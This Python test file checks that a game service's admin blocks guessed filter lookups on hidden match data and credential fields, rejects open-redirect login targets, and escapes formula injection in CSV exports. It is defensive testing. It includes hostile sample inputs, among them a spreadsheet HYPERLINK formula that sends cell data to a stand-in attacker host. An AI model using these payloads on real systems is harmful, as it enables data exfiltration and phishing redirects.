"""Staff query the admin for data that its lists hide, and an attacker tries to mislead staff."""

import csv
from io import StringIO
from urllib.parse import quote

from tests.attacks.browser import staff_member
from tests.faults.stack import Stack

GUESSES = ("red-1", "red-10", "no such card")


def test_a_league_operator_reads_no_hand_of_a_live_private_match(service: Stack) -> None:
    """By guessing, a hand was once read in 73 requests. Now no answer depends on whether a guess is right."""
    first, second = service.sign_up("quiet-one"), service.sign_up("quiet-two")
    body = {
        "ruleset": "battle_line",
        "visibility": "private",
        "seats": [{"kind": "me", "ready": True}, {"kind": "invited", "player": "quiet-two"}],
    }
    status, match = service.send("POST", "/api/v1/matches", body, first)
    assert status == 201, match
    assert service.send("POST", f"{match['url']}/join", {}, second)[0] == 200
    operator = staff_member(service, "operator", "League operators")
    assert match["id"][-12:] in operator.get("/admin/matches/match/?status__exact=playing")[1]

    asked = [f"{lookup}={quote(guess)}" for lookup in LOOKUPS for guess in GUESSES]
    answers = {question: operator.get(f"/admin/matches/match/?{question}")[0] for question in asked}

    assert answers == dict.fromkeys(asked, 400)


LOOKUPS = (
    *("snapshot__regex", "snapshot__contains", "snapshot__gt", "sealed_seed__startswith", "auto_passes__icontains"),
    *("seats__deck__icontains", "seats__entropy__startswith", "events__body__contains", "checkpoints__snapshot__regex"),
    *("seats__player__password__startswith", "seats__player__auth_token_set__digest__startswith"),
)


def test_signing_in_leads_nowhere_else(service: Stack) -> None:
    browser = staff_member(service, "led", "Auditors")

    for elsewhere in ("//evil.example/", "https://evil.example/", "javascript:alert(1)", "\\\\evil.example"):
        browser.cookies = {}
        address = f"/admin/login/?next={quote(elsewhere, safe='')}"
        status, _, led_to = browser.post(address, username="led", password="correct horse battery")
        assert (status, led_to) == (302, "/admin/"), elsewhere
        assert browser.get(led_to)[0] == 200


def test_a_deck_of_a_player_is_no_formula_in_the_table_of_the_staff(service: Stack) -> None:
    token = service.sign_up("reckoner")
    name = '=HYPERLINK("https://evil.example/"&A1,"Prize")'
    body = {"ruleset": "invictus", "name": name, "name_ja": name, "cards": {}}
    status, deck = service.send("POST", "/api/v1/decks", body, token)
    assert status == 201, deck
    manager = staff_member(service, "manager", "Deck managers")
    columns = ("id", "ruleset", "name_en", "name_ja", "owner", "visibility", "note", "options", "cards")

    status, file, _ = manager.post(
        "/admin/decks/deck/export/", format="1", resource="", **{f"deckresource_{column}": "on" for column in columns}
    )

    assert status == 200 and file.startswith("\ufeff")
    rows = list(csv.reader(StringIO(file.removeprefix("\ufeff"))))
    assert [row[2] for row in rows if row[4] == "reckoner"] == [f"'{name}"]
    assert not [cell for row in rows for cell in row if cell.startswith(("=", "+", "-", "@"))]
